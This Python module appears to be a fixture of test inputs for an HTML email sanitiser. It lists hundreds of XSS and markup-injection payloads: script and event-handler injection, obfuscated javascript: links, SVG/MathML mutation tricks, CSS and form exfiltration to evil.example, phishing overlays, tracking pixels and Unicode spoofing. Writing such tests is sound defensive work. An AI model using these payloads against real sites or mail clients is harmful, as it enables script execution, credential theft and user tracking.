"""Markup that wants to run, fetch, send, cover or mislead: one trick each, for mails that must hurt nobody.

RUN stands for a script that leaves a mark on the page it reaches, EVIL for a server that must never be asked.
"""

from __future__ import annotations

EVIL = "https://evil.example"
RUN = "top.hacked=1;alert(1)"

_SCRIPTS = r"""
<script>RUN</script>
<SCRIPT SRC=EVIL/a.js></SCRIPT>
<script/x>RUN</script/y>
<scr<script>ipt>RUN</scr</script>ipt>
<<script>RUN//<</script>
<script src="data:text/javascript,RUN"></script>
<script type=module>import "EVIL/m.js"</script>
<script>RUN
<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>
<title><img src=x onerror=RUN></title>
<xmp><img src=x onerror=RUN></xmp><plaintext><script>RUN</script>
<textarea><script>RUN</script></textarea><img src=x onerror=RUN>
<template><script>RUN</script></template>
<template shadowrootmode=open><script>RUN</script></template>
<script xmlns="http://www.w3.org/1999/xhtml">RUN</script>
<html:script>RUN</html:script>
"""
_HANDLERS = r'''
<img src=x onerror=RUN>
<img/src=x/onerror=RUN>
<img src=x onerror
=RUN>
<img src="x` `<script>RUN</script>"` `>
<IMG """><SCRIPT>RUN</SCRIPT>">
<img src='x'onerror='RUN'>
<img src=x:x oNeRrOr="&#116;op.hacked=1;alert&lpar;1&rpar;">
<body onload=RUN onpageshow=RUN onhashchange=RUN>
<p onmouseover=RUN onpointerenter=RUN onwheel=RUN>hover</p>
<b onclick=RUN accesskey=x tabindex=1 autofocus onfocus=RUN>press</b>
<input autofocus onfocus=RUN><select autofocus onfocus=RUN></select>
<details open ontoggle=RUN><summary>more</summary></details>
<marquee onstart=RUN behavior=alternate>moving</marquee>
<video onloadstart=RUN><source onerror=RUN src=x></video>
<audio src=x onerror=RUN autoplay></audio>
<p style="animation-name:x" onanimationstart=RUN>x</p><style>@keyframes x{}</style>
<p style="transition:color 1s" ontransitionend=RUN>x</p>
<div contenteditable onbeforeinput=RUN oninput=RUN>write</div>
<p oncontentvisibilityautostatechange=RUN style="display:block;content-visibility:auto">x</p>
<p popover onbeforetoggle=RUN id=pop>x</p><button popovertarget=pop>y</button>
<img src=x on error=RUN onerror&#61;RUN>
<img onerror=RUN src=x>
<a onclick="RUN" href="#">x</a>
'''
_ADDRESSES = r"""
<a href="javascript:RUN">a</a>
<a href=" javascript:RUN">a</a>
<a href="JaVaScRiPt:RUN">a</a>
<a href="java&#9;script:RUN">a</a>
<a href="java&NewLine;script:RUN">a</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;RUN">a</a>
<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058;RUN">a</a>
<a href="&#1;javascript:RUN">a</a>
<a href="javascript&colon;RUN">a</a>
<a href="javascript:%61lert(1)">a</a>
<a href="jav	ascript:RUN">a</a>
<a href="vbscript:msgbox(1)">a</a>
<a href="data:text/html,<script>RUN</script>">a</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>
<a href="blob:EVIL/1">a</a>
<a href="file:///etc/passwd">a</a>
<a href="view-source:EVIL">a</a>
<a href="feed:javascript:RUN">a</a>
<a href="//evil.example/relative">a</a>
<a href="/sign-out/" ping="EVIL/ping">a</a>
<a href="EVIL/x" ping="EVIL/ping" download>a</a>
<a href="https://xn--pple-43d.example/">a</a>
<a href="https://bank.example@evil.example/">https://bank.example/</a>
<a xlink:href="javascript:RUN">a</a>
<area href="javascript:RUN" shape=default><map name=m><area href="javascript:RUN"></map>
<img src="javascript:RUN"><img lowsrc="javascript:RUN" dynsrc="javascript:RUN">
<table background="javascript:RUN"><tr><td background="javascript:RUN">x</td></tr></table>
<blockquote cite="javascript:RUN">x</blockquote><q cite="javascript:RUN">x</q>
"""
_FOREIGN = r"""
<svg onload=RUN>
<svg><script>RUN</script></svg>
<svg><script href="data:text/javascript,RUN" /></svg>
<svg><a xlink:href="javascript:RUN"><text x=20 y=20>x</text></a></svg>
<svg><animate attributeName=href values="javascript:RUN" /><a id=x><rect width=99 height=99 /></a></svg>
<svg><use href="EVIL/s.svg#x" /></svg>
<svg><image href="EVIL/s.png" /><feImage href="EVIL/f.png" /></svg>
<svg><foreignObject><iframe src="javascript:RUN"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<svg><desc><img src=x onerror=RUN></desc></svg>
<svg><title><style><img src=x onerror=RUN></style></title></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<math><annotation-xml encoding="text/html"><script>RUN</script></annotation-xml></math>
<math href="javascript:RUN">x</math><math><maction actiontype="statusline#EVIL" xlink:href="javascript:RUN">x</maction></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src=x>">
<math><mi><style><!--</mi><img src=x onerror=RUN>--></style></math>
<svg><![CDATA[<img src=x onerror=RUN>]]></svg>
<![CDATA[<img src=x onerror=RUN>]]>
<?xml-stylesheet href="EVIL/x.xsl"?><?php echo 1 ?><img src=x onerror=RUN>
<!--[if mso]><script>RUN</script><![endif]-->
<!--><img src=x onerror=RUN>-->
<!--<img src="--><img src=x onerror=RUN//">
<!-- --!><img src=x onerror=RUN> -->
<a title="--><img src=x onerror=RUN>">x</a>
<p title="</p><style><img src=x onerror=RUN>">x</p>
<table><td><style></table><img src=x onerror=RUN></style>
<select><template><style><!--</select></style><img src=x onerror=RUN>-->
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<noembed><img src="</noembed><img src=x onerror=RUN>"></noembed>
<noframes><p title="</noframes><img src=x onerror=RUN>"></noframes>
<iframe><p title="</iframe><img src=x onerror=RUN>"></iframe>
"""
_STYLES = r"""
<style>*{position:fixed;inset:0;background:red}</style>
<style>@import "EVIL/i.css"; @font-face{font-family:x;src:url(EVIL/f.woff)}</style>
<style>a[href^="/"]{background:url(EVIL/leak)}</style><link rel=stylesheet href=EVIL/l.css>
<style></style><img src=x onerror=RUN></style>
<p style="background:url(EVIL/u.png)">x</p>
<p style="background:u\72l(EVIL/u.png)">x</p>
<p style="background:/**/url(EVIL/u.png)">x</p>
<p style="background-image:image-set('EVIL/u.png' 1x)">x</p>
<p style="background:-webkit-cross-fade(url(EVIL/u.png),url(EVIL/v.png),50%)">x</p>
<ul style="list-style:url(EVIL/l.png)"><li>x</ul>
<p style="list-style-image:url(EVIL/l.png);cursor:url(EVIL/c.cur),auto;content:url(EVIL/c.png)">x</p>
<p style="border-image:url(EVIL/b.png) 1;mask:url(EVIL/m.svg);filter:url(EVIL/f.svg#x)">x</p>
<p style="width:expression(RUN)">x</p>
<p style="behavior:url(EVIL/b.htc);-moz-binding:url(EVIL/x.xml#x)">x</p>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:99999">Sign in again</div>
<div style="position:absolute;top:-500px;left:-500px;width:5000px;height:5000px">cover</div>
<div style="position:sticky;top:0;z-index:9">stick</div>
<div style="margin:-900px;transform:scale(90);opacity:.01"><a href="EVIL/click">x</a></div>
<p style="color:red;x:';</style><script>RUN</script>">x</p>
<p style="font-family:'</style><img src=x onerror=RUN>'">x</p>
<p style="font-family:a;}*{display:none">x</p>
<p style="--x:url(EVIL/v.png);background:var(--x)">x</p>
<p style="height:99999999px;width:99999999px">large</p>
<p style="animation:x 1s infinite;display:grid;scroll-snap-type:x mandatory">x</p>
<p class="button primary menu" id=main>Looks like ours</p>
<p hidden popover=manual class=dialog>x</p>
<font style="font-size:9000px" size=99999>x</font>
"""
_DOCUMENTS = r"""
<meta http-equiv=refresh content="0;url=EVIL/refresh">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline' *">
<meta http-equiv=Set-Cookie content="divan_session=1"><meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<base href="EVIL/"><a href="x">a</a><img src="x.png">
<base target=_top>
<link rel=prefetch href=EVIL/p><link rel=dns-prefetch href=//evil.example><link rel=preconnect href=EVIL>
<link rel=preload as=image href=EVIL/p.png><link rel=modulepreload href=EVIL/m.js><link rel=icon href=EVIL/i>
<link rel=manifest href=EVIL/m.json><link rel=prerender href=EVIL/r>
<iframe src="EVIL/frame"></iframe>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe src="javascript:RUN"></iframe>
<frameset><frame src="EVIL/f"></frameset>
<object data="EVIL/o.swf"></object><embed src="EVIL/e.swf">
<object data="data:text/html,<script>RUN</script>"></object>
<applet code=x archive=EVIL/a.jar></applet><bgsound src=EVIL/b.wav>
<portal src=EVIL/p></portal><fencedframe src=EVIL/p></fencedframe>
<dialog open><form method=dialog><button autofocus>OK</button></form></dialog>
<form action="EVIL/steal"><input name=password type=password value=x><button>Sign in</button></form>
<form action="/sign-out/" method=post id=f></form><button form=f>x</button>
<input type=image src="EVIL/i.png" formaction=EVIL><button formaction="javascript:RUN">x</button>
<isindex action=EVIL type=image><keygen autofocus onfocus=RUN>
<form name=document><input name=cookie></form><img name=htmx><a id=Idiomorph></a>
<a id=location href="EVIL">x</a><img id=main><form id=talk></form>
<p data-open=close data-key=x data-topic="desk:1" data-fit data-copy=x>wired</p>
<p hx-get="EVIL/h" hx-trigger="load" hx-on:load="RUN">x</p><p hx-on--load="RUN" data-hx-get="/sign-out/" data-hx-trigger=load>x</p>
<div hx-ext=morph hx-disinherit="*" hx-vals="js:{x:alert(1)}" hx-trigger=load hx-post=/profile/>x</div>
"""
_TRACKERS = r"""
<img src="EVIL/pixel.gif" width=1 height=1>
<img src="http://evil.example/pixel.gif">
<img src="HTTPS://Evil.Example/pixel.gif">
<img src=" EVIL/space.gif ">
<img src="//evil.example/relative.gif">
<img src="\\evil.example\unc.gif"><img src="https:\\evil.example\back.gif">
<img src="https:evil.example/noslash.gif"><img src="https:///evil.example/slashes.gif">
<img srcset="EVIL/1x.png 1x, EVIL/2x.png 2x" src="cid:none" sizes=100vw>
<picture><source srcset="EVIL/source.png"><img alt="x"></picture>
<img src="cid:none" longdesc="EVIL/l" usemap="EVIL/m" lowsrc="EVIL/low.gif">
<img src="h&#x74;tps://evil.example/entity.gif"><img src="https&colon;//evil.example/colon.gif">
<img src="cid:x&#x22;&#x3E;<img src=EVIL/quote.gif>">
<img alt='x" onerror="RUN' src="cid:none"><img alt="<img src=x onerror=RUN>" src="cid:none">
<img src="cid:../../../../sign-out/"><img src="cid:%22%3E%3Cscript%3Ealert(1)%3C/script%3E">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<table background="EVIL/bg.png"><tr background=EVIL/tr.png><td background="EVIL/td.png">x</td></tr></table>
<body background="EVIL/body.png"><hr background=EVIL/hr.png>
<video poster="EVIL/poster.png" src="EVIL/v.mp4" autoplay></video><audio src="EVIL/a.mp3" preload=auto></audio>
<track src="EVIL/t.vtt"><source src="EVIL/s.mp4"><image src="EVIL/image.gif">
<input type=image src="EVIL/input.gif"><object data="EVIL/object.gif" type=image/gif></object>
<img src="EVIL/attributes.gif" loading=eager fetchpriority=high crossorigin=use-credentials referrerpolicy=unsafe-url attributionsrc=EVIL/at>
"""
_WORDS = (
    "<b>\u202eexe.gnp</b> and \u2066isolated without end",
    "<p dir='rtl\"onmouseover=RUN'>x</p><bdo dir=rtl>reversed</bdo>",
    "<s\u0441ript>RUN</s\u0441ript>\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    "<img src=x one\u0000rror=RUN><scr\u0000ipt>RUN</scr\u0000ipt>",
    "<\u0000script>RUN</script><a href='java\u0000script:RUN'>x</a>",
    "<a href='\u0001\u0002javascript:RUN'>x</a><a href='javascript\u200b:RUN'>x</a>",
    "<img\u000bsrc=x\u000conerror=RUN><img\u00a0src=x\u00a0onerror=RUN>",
    "<p>" + "Z\u0351\u036b\u0343\u036a" * 400 + "</p>",
    "<b>" * 120 + "deep" + "</b>" * 120,
    "<table><tr><td>" * 60 + "deep" + "</td></tr></table>" * 60,
    "<ul>" * 90 + "<li>deep" * 90,
    "<a href='EVIL/many'>x</a> " * 2_500,
    "<p " + " ".join(f"a{number}=1" for number in range(150)) + " onclick=RUN>x</p>",
    "<p>" + "\u00ad\u200d" * 3_000 + "x" * 3_000 + "</p>",
    "</div></div></article></main></body></html><h1>Out of the box</h1><div><div>",
    "</td></tr></table></div></iframe></script></style></textarea><img src=x onerror=RUN>",
)


def _cases(lines: str) -> tuple[str, ...]:
    """One case begins on every line that begins with a tag; a few go on behind a line break."""
    found: list[str] = []
    for line in lines.strip().splitlines():
        if line.startswith("<") or not found:
            found.append(line)
        else:
            found[-1] += "\n" + line
    return tuple(found)


TOPICS = {
    "scripts": _cases(_SCRIPTS),
    "handlers": _cases(_HANDLERS),
    "addresses": _cases(_ADDRESSES),
    "foreign": _cases(_FOREIGN),
    "styles": _cases(_STYLES),
    "documents": _cases(_DOCUMENTS),
    "trackers": _cases(_TRACKERS),
    "words": _WORDS,
}
CASES = {
    f"{topic} {number}": case.replace("EVIL", EVIL).replace("RUN", RUN)
    for topic, cases in TOPICS.items()
    for number, case in enumerate(cases, 1)
}
